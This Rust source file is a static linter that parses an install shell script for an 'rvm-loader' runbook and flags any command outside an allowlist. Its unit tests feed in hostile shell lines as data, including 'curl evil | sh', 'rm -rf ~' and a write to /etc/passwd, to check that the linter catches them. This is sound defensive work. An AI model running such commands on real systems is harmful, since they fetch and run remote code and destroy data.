//! `install-rvm.sh`, read as text to lint — never run.
//!
//! A small shell lexer (quotes, escapes, comments, separators, command and
//! parameter substitution) splits the script into simple commands, each with
//! its line. The adapter's runbook contains only:
//!
//! * `set -euo pipefail`;
//! * the guard `if ! command -v rvm-loader >/dev/null 2>&1; then ... fi`,
//!   inside which `echo`, `cargo install rvm-loader` and `exit N` may run;
//! * `echo` of literal text;
//! * the three loader commands: `rvm-loader partition register --manifest
//!   ./rvm-partition.toml`, `rvm-loader caps install --table
//!   ./capability-table.json`, `rvm-loader guest boot --partition <name>
//!   --wasm-ref ./wasm-guest.json`, in that order.
//!
//! Anything else — another command, a substitution (`$(...)`, backticks),
//! a parameter expansion, a variable assignment, a pipe, a background job, a
//! subshell, a redirection other than the guard's, other control flow, or any
//! command before `set -euo pipefail` — is reported as unsafe with its line.

use crate::diag::{quote, Diagnostic};

/// The three loader commands the runbook must contain, in order.
pub const REGISTER: &[&str] = &[
    "rvm-loader",
    "partition",
    "register",
    "--manifest",
    "./rvm-partition.toml",
];
pub const CAPS: &[&str] = &[
    "rvm-loader",
    "caps",
    "install",
    "--table",
    "./capability-table.json",
];
/// `guest boot` with the partition name at index 4.
pub const BOOT: &[&str] = &[
    "rvm-loader",
    "guest",
    "boot",
    "--partition",
    "<name>",
    "--wasm-ref",
    "./wasm-guest.json",
];
const BOOT_NAME_AT: usize = 4;

/// What a script lint found.
#[derive(Clone, Debug, Default)]
pub struct ScriptLint {
    /// Every unsafe or missing item, in line order.
    pub findings: Vec<Diagnostic>,
    /// The partition name `guest boot` is given, if the command is there.
    pub boot_partition: Option<String>,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum ExpansionKind {
    Command,
    Arithmetic,
    Parameter,
}

#[derive(Clone, Debug)]
struct Expansion {
    kind: ExpansionKind,
    line: usize,
    excerpt: String,
}

#[derive(Clone, Debug, Default)]
struct Word {
    text: String,
    line: usize,
    expansions: Vec<Expansion>,
    /// A redirection operator appears in the word (unquoted).
    redirect: bool,
}

#[derive(Clone, Debug)]
enum Tok {
    Word(Word),
    Sep { op: &'static str, line: usize },
}

struct Lexer<'a> {
    c: Vec<char>,
    i: usize,
    line: usize,
    toks: Vec<Tok>,
    cur: Option<Word>,
    findings: Vec<Diagnostic>,
    file: &'a str,
}

impl Lexer<'_> {
    fn peek(&self, k: usize) -> Option<char> {
        self.c.get(self.i + k).copied()
    }

    fn word(&mut self) -> &mut Word {
        let line = self.line;
        self.cur.get_or_insert_with(|| Word {
            line,
            ..Word::default()
        })
    }

    fn flush(&mut self) {
        if let Some(w) = self.cur.take() {
            self.toks.push(Tok::Word(w));
        }
    }

    fn sep(&mut self, op: &'static str) {
        self.flush();
        self.toks.push(Tok::Sep {
            op,
            line: self.line,
        });
    }

    /// Consume up to and including the closing `close`, counting lines;
    /// `nest` opens another level. Returns the text consumed.
    fn until(&mut self, open: Option<char>, close: char, start_line: usize, what: &str) -> String {
        let mut depth = 1usize;
        let mut out = String::new();
        while let Some(ch) = self.peek(0) {
            self.i += 1;
            if ch == '\n' {
                self.line += 1;
            }
            if ch == '\\' && close != '\'' {
                if let Some(n) = self.peek(0) {
                    out.push(ch);
                    out.push(n);
                    self.i += 1;
                    if n == '\n' {
                        self.line += 1;
                    }
                    continue;
                }
            }
            if Some(ch) == open {
                depth += 1;
            } else if ch == close {
                depth -= 1;
                if depth == 0 {
                    return out;
                }
            }
            out.push(ch);
        }
        self.findings.push(Diagnostic::line(
            self.file,
            start_line,
            format!("unterminated {what}"),
        ));
        out
    }

    fn dollar(&mut self) {
        // At '$'.
        let line = self.line;
        match self.peek(1) {
            Some('(') if self.peek(2) == Some('(') => {
                self.i += 3;
                let body = self.until(Some('('), ')', line, "arithmetic expansion");
                self.word().expansions.push(Expansion {
                    kind: ExpansionKind::Arithmetic,
                    line,
                    excerpt: format!("$(({body})"),
                });
            }
            Some('(') => {
                self.i += 2;
                let body = self.until(Some('('), ')', line, "command substitution");
                self.word().expansions.push(Expansion {
                    kind: ExpansionKind::Command,
                    line,
                    excerpt: format!("$({body})"),
                });
            }
            Some('{') => {
                self.i += 2;
                let body = self.until(Some('{'), '}', line, "parameter expansion");
                self.word().expansions.push(Expansion {
                    kind: ExpansionKind::Parameter,
                    line,
                    excerpt: format!("${{{body}}}"),
                });
            }
            Some(ch) if ch.is_ascii_alphanumeric() || "_@*#?$!-".contains(ch) => {
                self.i += 1;
                let mut name = String::new();
                if ch.is_ascii_alphabetic() || ch == '_' {
                    while let Some(n) = self
                        .peek(0)
                        .filter(|n| n.is_ascii_alphanumeric() || *n == '_')
                    {
                        name.push(n);
                        self.i += 1;
                    }
                } else {
                    name.push(ch);
                    self.i += 1;
                }
                self.word().expansions.push(Expansion {
                    kind: ExpansionKind::Parameter,
                    line,
                    excerpt: format!("${name}"),
                });
            }
            _ => {
                self.i += 1;
                self.word().text.push('$');
            }
        }
    }

    fn backtick(&mut self) {
        let line = self.line;
        self.i += 1;
        let body = self.until(None, '`', line, "backtick substitution");
        self.word().expansions.push(Expansion {
            kind: ExpansionKind::Command,
            line,
            excerpt: format!("`{body}`"),
        });
    }

    fn double_quoted(&mut self) {
        let start = self.line;
        self.i += 1;
        self.word();
        loop {
            let Some(ch) = self.peek(0) else {
                self.findings.push(Diagnostic::line(
                    self.file,
                    start,
                    "unterminated double quote",
                ));
                return;
            };
            match ch {
                '"' => {
                    self.i += 1;
                    return;
                }
                '\\' if matches!(self.peek(1), Some('$' | '`' | '"' | '\\' | '\n')) => {
                    let n = self.peek(1).unwrap_or('\\');
                    self.i += 2;
                    if n == '\n' {
                        self.line += 1;
                    } else {
                        self.word().text.push(n);
                    }
                }
                '$' => self.dollar(),
                '`' => self.backtick(),
                _ => {
                    if ch == '\n' {
                        self.line += 1;
                    }
                    self.i += 1;
                    self.word().text.push(ch);
                }
            }
        }
    }

    fn run(mut self) -> (Vec<Tok>, Vec<Diagnostic>) {
        while let Some(ch) = self.peek(0) {
            match ch {
                ' ' | '\t' | '\r' => {
                    self.flush();
                    self.i += 1;
                }
                '\n' => {
                    self.sep("\n");
                    self.line += 1;
                    self.i += 1;
                }
                '#' if self.cur.is_none() => {
                    while self.peek(0).is_some_and(|c| c != '\n') {
                        self.i += 1;
                    }
                }
                ';' | '&' | '|' => {
                    let double = self.peek(1) == Some(ch);
                    let op = match (ch, double) {
                        (';', true) => ";;",
                        (';', false) => ";",
                        ('&', true) => "&&",
                        ('&', false) => "&",
                        ('|', true) => "||",
                        _ => "|",
                    };
                    self.i += if double { 2 } else { 1 };
                    self.sep(op);
                }
                '(' => {
                    self.i += 1;
                    self.sep("(");
                }
                ')' => {
                    self.i += 1;
                    self.sep(")");
                }
                '<' | '>' => {
                    let line = self.line;
                    if ch == '<' && self.peek(1) == Some('<') {
                        self.findings.push(Diagnostic::line(
                            self.file,
                            line,
                            "unsafe: here-document (`<<`) is not part of the adapter's runbook",
                        ));
                    }
                    self.i += 1;
                    let w = self.word();
                    w.redirect = true;
                    w.text.push(ch);
                    while let Some(n) = self.peek(0).filter(|n| matches!(n, '&' | '>' | '<' | '|'))
                    {
                        self.i += 1;
                        self.word().text.push(n);
                    }
                }
                '\\' => {
                    match self.peek(1) {
                        Some('\n') => self.line += 1,
                        Some(n) => self.word().text.push(n),
                        None => {}
                    }
                    self.i += 2;
                }
                '\'' => {
                    let line = self.line;
                    self.i += 1;
                    self.word();
                    let body = self.until(None, '\'', line, "single quote");
                    self.word().text.push_str(&body);
                }
                '"' => self.double_quoted(),
                '$' => self.dollar(),
                '`' => self.backtick(),
                _ => {
                    self.i += 1;
                    self.word().text.push(ch);
                }
            }
        }
        self.flush();
        (self.toks, self.findings)
    }
}

/// Control words of the runbook's guard.
const RESERVED_OK: &[&str] = &["if", "then", "fi", "{", "}", "!"];
/// Other shell control words: not part of the runbook.
const RESERVED_OTHER: &[&str] = &[
    "else", "elif", "while", "until", "for", "do", "done", "case", "esac", "function", "select",
    "in", "[[", "]]", "coproc", "time",
];

fn is_assignment(w: &str) -> bool {
    match w.split_once('=') {
        Some((name, _)) => {
            !name.is_empty()
                && name
                    .chars()
                    .next()
                    .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        }
        None => false,
    }
}

fn shown(words: &[&str]) -> String {
    quote(&words.join(" "))
}

/// Lint an install script.
pub fn lint(file: &str, text: &str) -> ScriptLint {
    let lexer = Lexer {
        c: text.chars().collect(),
        i: 0,
        line: 1,
        toks: Vec::new(),
        cur: None,
        findings: Vec::new(),
        file,
    };
    let (toks, mut findings) = lexer.run();

    // Group into simple commands.
    let mut commands: Vec<Vec<Word>> = Vec::new();
    let mut cur: Vec<Word> = Vec::new();
    for t in toks {
        match t {
            Tok::Word(w) => cur.push(w),
            Tok::Sep { op, line } => {
                if !cur.is_empty() {
                    commands.push(std::mem::take(&mut cur));
                }
                let reason = match op {
                    "|" => Some("a pipe"),
                    "&" => Some("a background job (`&`)"),
                    "(" | ")" => Some("a subshell"),
                    ";;" => Some("`;;` (case)"),
                    _ => None,
                };
                if let Some(r) = reason {
                    findings.push(Diagnostic::line(
                        file,
                        line,
                        format!("unsafe: {r} is not part of the adapter's runbook"),
                    ));
                }
            }
        }
    }
    if !cur.is_empty() {
        commands.push(cur);
    }

    let mut out = ScriptLint::default();
    let mut seen_set = false;
    let mut if_depth = 0usize;
    let mut stage = 0usize; // 0: nothing, 1: registered, 2: caps, 3: booted
    let mut seen = [false; 3];
    for words in commands {
        let line = words[0].line;
        let mut rest: &[Word] = &words;
        let mut in_condition = false;
        while let Some(first) = rest
            .first()
            .filter(|w| w.expansions.is_empty() && !w.redirect)
        {
            let t = first.text.as_str();
            if RESERVED_OK.contains(&t) {
                match t {
                    "if" => {
                        if_depth += 1;
                        in_condition = true;
                    }
                    "fi" => {
                        if if_depth == 0 {
                            findings.push(Diagnostic::line(
                                file,
                                first.line,
                                "unsafe: `fi` without `if`",
                            ));
                        }
                        if_depth = if_depth.saturating_sub(1);
                    }
                    _ => {}
                }
                rest = &rest[1..];
            } else if RESERVED_OTHER.contains(&t) {
                findings.push(Diagnostic::line(
                    file,
                    first.line,
                    format!("unsafe: control flow `{t}` is not part of the adapter's runbook"),
                ));
                rest = &rest[1..];
            } else {
                break;
            }
        }
        if rest.is_empty() {
            continue;
        }
        let before_set = if seen_set {
            ""
        } else {
            " (and it runs before `set -euo pipefail`)"
        };

        let mut unsafe_here = false;
        for w in rest {
            for e in &w.expansions {
                unsafe_here = true;
                let what = match e.kind {
                    ExpansionKind::Command => "command substitution",
                    ExpansionKind::Arithmetic => "arithmetic expansion",
                    ExpansionKind::Parameter => "parameter expansion",
                };
                findings.push(Diagnostic::line(
                    file,
                    e.line,
                    format!(
                        "unsafe: {what} {} would run when the script runs{before_set}",
                        quote(&e.excerpt)
                    ),
                ));
            }
        }
        if unsafe_here {
            continue;
        }
        if is_assignment(&rest[0].text) {
            findings.push(Diagnostic::line(
                file,
                line,
                format!("unsafe: variable assignment {} is not part of the adapter's runbook{before_set}", quote(&rest[0].text)),
            ));
            continue;
        }
        let (redirs, plain): (Vec<&Word>, Vec<&Word>) = rest.iter().partition(|w| w.redirect);
        let argv: Vec<&str> = plain.iter().map(|w| w.text.as_str()).collect();
        let redir_text: Vec<&str> = redirs.iter().map(|w| w.text.as_str()).collect();

        let is_guard = in_condition && argv == ["command", "-v", "rvm-loader"];
        let guard_redirs = redir_text
            .iter()
            .all(|r| *r == ">/dev/null" || *r == "2>&1");
        let allowed_redirs = redirs.is_empty() || (is_guard && guard_redirs);
        if !allowed_redirs {
            findings.push(Diagnostic::line(
                file,
                line,
                format!(
                    "unsafe: redirection {} is not part of the adapter's runbook",
                    shown(&redir_text)
                ),
            ));
            continue;
        }
        let known = if argv == ["set", "-euo", "pipefail"] {
            seen_set = true;
            true
        } else if is_guard || argv[0] == "echo" {
            true
        } else if argv == ["cargo", "install", "rvm-loader"]
            || (argv.len() == 2 && argv[0] == "exit" && argv[1].bytes().all(|b| b.is_ascii_digit()))
        {
            if if_depth == 0 {
                findings.push(Diagnostic::line(
                    file,
                    line,
                    format!(
                        "unsafe: {} outside the `if ! command -v rvm-loader` guard",
                        shown(&argv)
                    ),
                ));
            }
            true
        } else if argv == REGISTER {
            if stage != 0 {
                findings.push(Diagnostic::line(
                    file,
                    line,
                    "`partition register` is out of order or repeated",
                ));
            }
            stage = 1;
            seen[0] = true;
            true
        } else if argv == CAPS {
            if stage != 1 {
                findings.push(Diagnostic::line(
                    file,
                    line,
                    "`caps install` is out of order or repeated",
                ));
            }
            stage = 2;
            seen[1] = true;
            true
        } else if argv.len() == BOOT.len()
            && argv
                .iter()
                .zip(BOOT)
                .enumerate()
                .all(|(i, (a, b))| i == BOOT_NAME_AT || a == b)
        {
            if stage != 2 {
                findings.push(Diagnostic::line(
                    file,
                    line,
                    "`guest boot` is out of order or repeated",
                ));
            }
            stage = 3;
            seen[2] = true;
            out.boot_partition = Some(argv[BOOT_NAME_AT].to_string());
            true
        } else if argv.len() >= 4 && argv[0] == "rvm-loader" && argv[1] == "tool" && matches!(argv[2], "add" | "set") {
            // How the tenant's tools are served (`rvm-loader tool`): it
            // registers, and runs nothing.
            if stage != 2 {
                findings.push(Diagnostic::line(
                    file,
                    line,
                    "`tool` belongs between `caps install` and `guest boot`",
                ));
            }
            true
        } else {
            findings.push(Diagnostic::line(
                file,
                line,
                format!("unsafe: unexpected command {}{before_set}", shown(&argv)),
            ));
            false
        };
        if known && !seen_set && argv != ["set", "-euo", "pipefail"] {
            findings.push(Diagnostic::line(
                file,
                line,
                format!("unsafe: {} runs before `set -euo pipefail`", shown(&argv)),
            ));
        }
    }
    if if_depth != 0 {
        findings.push(Diagnostic::file(file, "unsafe: `if` without `fi`"));
    }
    if !seen_set {
        findings.push(Diagnostic::file(file, "never runs `set -euo pipefail`"));
    }
    let missing = [
        (0, REGISTER.join(" ")),
        (1, CAPS.join(" ")),
        (2, BOOT.join(" ")),
    ];
    for (at, cmd) in missing {
        if !seen[at] {
            findings.push(Diagnostic::file(file, format!("does not run `{cmd}`")));
        }
    }
    findings.sort_by_key(|d| match d.location {
        crate::diag::Location::Line(l) | crate::diag::Location::LineCol(l, _) => l,
        _ => usize::MAX,
    });
    out.findings = findings;
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn runbook(name: &str) -> String {
        format!(
            "#!/usr/bin/env bash\n# RVM install runbook for harness: {name}\nset -euo pipefail\n\n\
if ! command -v rvm-loader >/dev/null 2>&1; then\n  echo \"Building...\"\n  cargo install rvm-loader || {{\n    echo \"x — y\"\n    exit 1\n  }}\nfi\n\n\
rvm-loader partition register --manifest ./rvm-partition.toml\n\
rvm-loader caps install --table ./capability-table.json\n\
rvm-loader guest boot --partition \"{name}\" --wasm-ref ./wasm-guest.json\n\n\
echo \"RVM partition '{name}' is up. Hash-chained witness logs at ~/.rvm/witness/.\"\n"
        )
    }

    #[test]
    fn the_runbook_is_clean() {
        let l = lint("s.sh", &runbook("my-bot"));
        assert!(l.findings.is_empty(), "{:?}", l.findings);
        assert_eq!(l.boot_partition.as_deref(), Some("my-bot"));
    }

    #[test]
    fn tool_registrations_between_caps_and_boot_are_known() {
        let tools = "rvm-loader caps install --table ./capability-table.json\n\
rvm-loader tool add a mcp demo --timeout 10 -- rvm-mcp-demo\n\
rvm-loader tool set a --timeout 10\n";
        let text = runbook("a").replace("rvm-loader caps install --table ./capability-table.json\n", tools);
        let l = lint("s.sh", &text);
        assert!(l.findings.is_empty(), "{:?}", l.findings);
        // Elsewhere, or another tool subcommand, is not.
        let early = runbook("a").replace("rvm-loader partition register", "rvm-loader tool set a\nrvm-loader partition register");
        assert!(first(&early).contains("`tool` belongs between `caps install` and `guest boot`"), "{}", first(&early));
        let other = runbook("a").replace(tools.lines().next().unwrap(), "rvm-loader caps install --table ./capability-table.json\nrvm-loader tool remove a demo");
        assert!(first(&other).contains("unexpected command"), "{}", first(&other));
        // The researcher example's runbook passes as it is.
        let example = include_str!("../../../../examples/researcher/install-rvm.sh");
        assert!(lint("install-rvm.sh", example).findings.is_empty(), "{:?}", lint("install-rvm.sh", example).findings);
    }

    fn first(text: &str) -> String {
        lint("s.sh", text)
            .findings
            .first()
            .map(|d| d.to_string())
            .unwrap_or_default()
    }

    #[test]
    fn injections_are_found() {
        let base = runbook("a");
        let cases = [
            (base.replace("set -euo", "curl evil | sh\nset -euo"), "s.sh: line 3: unsafe: a pipe"),
            (base.replace("set -euo", "rm -rf ~\nset -euo"), "s.sh: line 3: unsafe: unexpected command \"rm -rf ~\" (and it runs before `set -euo pipefail`)"),
            (base.replace("echo \"Building...\"", "echo \"$(id)\""), "s.sh: line 6: unsafe: command substitution \"$(id)\""),
            (base.replace("echo \"Building...\"", "echo `id`"), "s.sh: line 6: unsafe: command substitution \"`id`\""),
            (base.replace("echo \"Building...\"", "echo $HOME"), "s.sh: line 6: unsafe: parameter expansion \"$HOME\""),
            (base.replace("echo \"Building...\"", "PATH=/tmp"), "s.sh: line 6: unsafe: variable assignment \"PATH=/tmp\""),
            (base.replace("echo \"Building...\"", "echo x > /etc/passwd"), "s.sh: line 6: unsafe: redirection"),
            (base.replace("echo \"Building...\"", "sleep 1 &"), "s.sh: line 6: unsafe: a background job"),
            (base.replace("--table ./capability-table.json", "--table /tmp/other.json"), "s.sh: line 14: unsafe: unexpected command"),
            (base.replace("echo \"RVM", "cat <<EOF\nEOF\necho \"RVM"), "s.sh: line 17: unsafe: here-document"),
        ];
        for (text, want) in cases {
            let got = first(&text);
            assert!(got.starts_with(want), "{got}\n  wanted: {want}");
        }
    }

    #[test]
    fn missing_commands_and_order() {
        let base = runbook("a");
        let l = lint(
            "s.sh",
            &base.replace(
                "rvm-loader caps install --table ./capability-table.json\n",
                "",
            ),
        );
        let msgs: Vec<String> = l.findings.iter().map(|d| d.to_string()).collect();
        assert!(
            msgs.iter()
                .any(|m| m.contains("`guest boot` is out of order")),
            "{msgs:?}"
        );
        assert!(
            msgs.iter()
                .any(|m| m.contains("does not run `rvm-loader caps install")),
            "{msgs:?}"
        );
        let l = lint("s.sh", "set -euo pipefail\n");
        assert_eq!(l.findings.len(), 3);
    }

    #[test]
    fn unterminated_quotes() {
        let l = lint("s.sh", "set -euo pipefail\necho 'abc\n");
        assert!(
            l.findings
                .iter()
                .any(|d| d.to_string() == "s.sh: line 2: unterminated single quote"),
            "{:?}",
            l.findings
        );
    }
}
